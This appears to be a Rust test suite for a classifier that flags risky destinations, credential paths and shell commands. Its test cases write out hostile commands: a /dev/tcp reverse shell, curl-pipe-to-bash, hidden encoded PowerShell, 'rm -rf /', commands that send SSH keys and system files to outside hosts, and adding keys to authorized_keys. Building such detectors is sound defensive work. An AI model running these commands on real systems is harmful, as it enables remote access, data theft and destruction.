use super::*;

fn has(id: &str, text: &str) -> bool {
    let classes = Classes::embedded().unwrap();
    assert!(classes.knows(id), "{id}");
    classes.has(id, [text])
}

#[test]
fn every_pattern_compiles() {
    Classes::embedded().unwrap().check().unwrap();
}

#[test]
fn source_kinds_of_classes_are_in_the_closed_list() {
    for class in Classes::embedded().unwrap().classes.values() {
        if let Some(kind) = &class.source {
            assert!(crate::kinds::is_source(kind), "{kind}");
        }
    }
}

#[test]
fn hosts_are_told_apart_from_what_contains_their_name() {
    let class = "destination/webhook-catcher";
    assert!(has(class, "https://webhook.site/0000"));
    assert!(has(class, "https://abc.WEBHOOK.site:8443/x?y"));
    assert!(has(class, "webhook.site"));
    assert!(!has(class, "https://mywebhook.site/"));
    assert!(!has(class, "https://example.invalid/?next=https://webhook.site/"));
    assert!(!has(class, "https://webhook.site.example.invalid/"));
    assert!(has(class, "https://user:word@webhook.site/"));
}

#[test]
fn a_path_behind_a_host_counts() {
    assert!(has("destination/messenger", "https://api.telegram.org/bot{}/sendMessage"));
    assert!(has("destination/messenger", "https://discord.com/api/webhooks/0/EXAMPLE"));
    assert!(!has("destination/messenger", "https://discord.com/channels/0"));
}

#[test]
fn addresses_have_ranges() {
    for (text, class) in [
        ("http://192.0.2.7:8080/a", "raw-address"),
        ("198.51.100.3", "raw-address"),
        ("http://3221225991/x", "raw-address"),
        ("http://[2001:db8::1]/", "raw-address"),
        ("http://127.0.0.1:9000", "loopback"),
        ("localhost", "loopback"),
        ("127.0.0.1 4444", "loopback"),
        ("192.0.2.1 4444", "raw-address"),
        ("0.0.0.0", "loopback"),
        ("http://10.1.2.3/", "private"),
        ("192.168.0.1:80", "private"),
        ("169.254.169.254", "private"),
    ] {
        for range in ["raw-address", "loopback", "private"] {
            assert_eq!(has(&format!("destination/{range}"), text), range == class, "{text} {range}");
        }
    }
    assert!(!has("destination/raw-address", "https://example.invalid/192.0.2.1"));
    assert!(!has("destination/raw-address", "4444"));
    assert!(!has("destination/raw-address", "1.2.3"));
}

#[test]
fn paths_are_compared_by_component() {
    assert!(has("file/credential", "/home/{}/.aws/credentials"));
    assert!(has("file/credential", "C:\\Users\\me\\.ssh\\id_rsa"));
    assert!(!has("file/credential", "docs/my.aws/credentials.md"));
    assert!(has("file/executable", "{}/update.exe"));
    assert!(!has("file/executable", "/usr/share/exe"));
    assert!(has("file/start-up", "{}\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat"));
    assert!(has("file/home-or-root", "~"));
    assert!(has("file/home-or-root", "/"));
    assert!(has("file/home-or-root", "C:\\"));
    assert!(!has("file/home-or-root", "/home/me/project/build"));
}

#[test]
fn commands_have_classes() {
    for (class, text, yes) in [
        ("command/download-and-run", "curl -s http://192.0.2.1/a.sh | bash", true),
        ("command/download-and-run", "curl -o data.csv https://example.invalid/data.csv", false),
        ("command/encoded-powershell", "powershell -nop -w hidden -enc QUFBQUFBQUFBQUFBQUFBQQ==", true),
        ("command/encoded-powershell", "powershell -ExecutionPolicy Bypass -File build.ps1", false),
        ("command/network-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", true),
        ("command/delete-all", "rm -rf /", true),
        ("command/delete-all", "rm -rf ~/*", true),
        ("command/delete-all", "rm -rf build dist", false),
        ("command/delete-all", "rm -rf /tmp/build", false),
        ("command/compiler", "gcc", true),
        ("command/compiler", "cmake --build .", true),
        ("command/compiler", "/tmp/cmake --build .", false),
        ("command/compiler", "gccx", false),
        ("command/shell", "/bin/sh", true),
        ("command/shell", "cmd.exe", true),
        ("command/shell", "git", false),
        ("command/persistence", "schtasks /create /tn a /tr b /sc onlogon", true),
        ("command/persistence", "ln -s /opt/a.service ~/.config/systemd/user/default.target.wants/", true),
        ("command/persistence", "printf x | tee -a ~/.profile", true),
        ("command/persistence", "cp ~/.profile build/", false),
        ("command/persistence", "sed -n p ~/.bashrc", false),
        ("command/adds-key", "sed -i '$ a ssh-ed25519 AAAAEXAMPLE' ~/.ssh/authorized_keys", true),
        ("command/adds-key", "cp /tmp/k ~/.ssh/authorized_keys", true),
        ("command/adds-key", "cp ~/.ssh/authorized_keys /tmp/k", false),
        ("command/sends-out", "sleep 1; curl -d@/etc/hosts https://example.invalid/", true),
        ("command/sends-out", "cd /tmp; curl -XPOST -F'a=@/etc/hosts' https://example.invalid/", true),
        ("command/sends-out", "curl --url-query x@/etc/hosts https://example.invalid/", true),
        ("command/sends-out", "aws s3 cp ~/.ssh/id_rsa s3://words-example/", true),
        ("command/sends-out", "aws s3 cp s3://words-example/data.csv data.csv", false),
        ("command/sends-out", "tar cz ~/.ssh | ssh u@192.0.2.4 'cat > x'", true),
        ("command/sends-out", "scp -r ~/Documents u@192.0.2.4:/tmp/", true),
        ("command/sends-out", "scp u@192.0.2.4:/tmp/a ~", false),
        ("command/sends-out", "curl -fsSLO https://example.invalid/a-Td.tar.gz", false),
        ("command/sends-out", "ssh -T git@example.invalid < /dev/null", false),
        ("command/contact", "cd /tmp && nslookup x.collect.example.invalid", true),
        ("command/contact", "echo curl https://example.invalid", false),
        ("command/download-and-run", "source <(curl -s https://example.invalid/a.sh)", true),
        ("command/download-and-run", ". <(wget -qO- files.example.invalid/a)", true),
        ("command/download-and-run", "python3 -c \"$(curl -s https://example.invalid/a.py)\"", true),
        ("command/download-and-run", "aria2c -o x https://example.invalid/a.sh; bash x", true),
        ("command/download-and-run", "cd /tmp && ! curl -fsS https://example.invalid/a.sh -o x || bash x", true),
        ("command/download-and-run", "npx -y github:EXAMPLE/words", true),
        ("command/download-and-run", "$(curl -s https://example.invalid/a)", true),
        ("command/download-and-run", "`curl --output - {}`", false),
        ("command/download-and-run", "npx prebuild-install --download https://example.invalid/a", false),
        ("command/download-and-run", "curl -sSLO https://example.invalid/a.zip && unzip a.zip && make -C a", false),
        ("command/download-and-run", "curl -s https://example.invalid/a.json | python3 -m json.tool > a", false),
        ("command/download-and-run", "curl -s https://example.invalid/a.py | python3 - --quiet", true),
        ("command/delete-all", "git status; rm -rf ~/*", true),
        ("command/delete-all", "rm -fr -- /", true),
        ("command/delete-all", "rm -rf \"$HOME\"/Documents", true),
        ("command/delete-all", "rm -rf ${HOME}/.cache/words", false),
        ("command/delete-all", "find ~ -type f -delete", true),
        ("command/delete-all", "find / -type f -exec rm -f {} +", true),
        ("command/delete-all", "find ~ -name '*' -delete", true),
        ("command/delete-all", "find ~ -name '*.pyc' -delete", false),
        ("command/delete-all", "find build -type f -delete", false),
        ("command/delete-all", "docker run --rm words rm -rf /", false),
        ("command/delete-all", "cmd /c rd /s /q c:\\", true),
        ("command/delete-all", "rd /s /q build", false),
        ("command/publishes", "npm --prefix /home/x/project publish", true),
        ("command/publishes", "npm publ", true),
        ("command/publishes", "npm publish>/dev/null", true),
        ("command/publishes", "python3 -m twine --no-color upload dist/*", true),
        ("command/publishes", "npm --workspace a publish", true),
        ("command/publishes", "yarn --cwd x publish", true),
        ("command/publishes", "python setup.py sdist upload", true),
        ("command/publishes", "npm run publish-docs", false),
        ("command/publishes", "npm publish --dry-run", false),
        ("command/publishes", "npm view publish version", false),
        ("command/install-from-address", "{} -m pip -q install https://example.invalid/core-1.0.tar.gz", true),
        (
            "command/install-from-address",
            "pip --disable-pip-version-check install https://example.invalid/core-1.0.tar.gz",
            true,
        ),
        ("command/install-from-address", "pip3.11 install git+https://example.invalid/core", true),
        ("command/install-from-address", "pip install -i https://pkgs.example.invalid/simple core", true),
        ("command/install-from-address", "pip install -r requirements.txt", false),
        ("command/install-from-address", "pip download core; echo https://example.invalid/", false),
        ("command/install-from-address", "npm i https://example.invalid/words.tgz", true),
        ("command/install-from-address", "npm install --prefix native", false),
        ("command/install-from-package-host", "pip install git+https://github.com/EXAMPLE/words.git", true),
        (
            "command/install-from-package-host",
            "pip install git+https://github.com/EXAMPLE/words.git -i //pkgs.example.invalid/simple",
            false,
        ),
        ("command/checks-password", "sudo -S -p \"\" -v", true),
        ("command/checks-password", "sudo -S -p \"\" make install", false),
    ] {
        assert_eq!(has(class, text), yes, "{class} {text}");
    }
}

#[test]
fn a_text_has_all_its_classes_sorted() {
    let classes = Classes::embedded().unwrap();
    let found = classes.classify("file", ["~/.ssh/id_rsa"]);
    assert_eq!(found, ["credential", "private"]);
    assert_eq!(classes.source_kind("file", ["/root/.aws/credentials"]), Some("file.credential"));
    assert_eq!(classes.source_kind("file", ["notes.txt"]), None);
}

#[test]
fn hostile_texts_do_no_harm() {
    for text in ["", "://", "[", "[::", "@", "a:b:c", "\u{e4}\u{f6}://\u{fc}", "0x", "....", "http://@:80"] {
        for (id, _) in Classes::embedded().unwrap().list() {
            // Must return at all, whatever it says.
            let _ = has(id, text);
        }
    }
    let long = "\u{e4}".repeat(10_000);
    assert!(!has("file/hidden", &long));
}
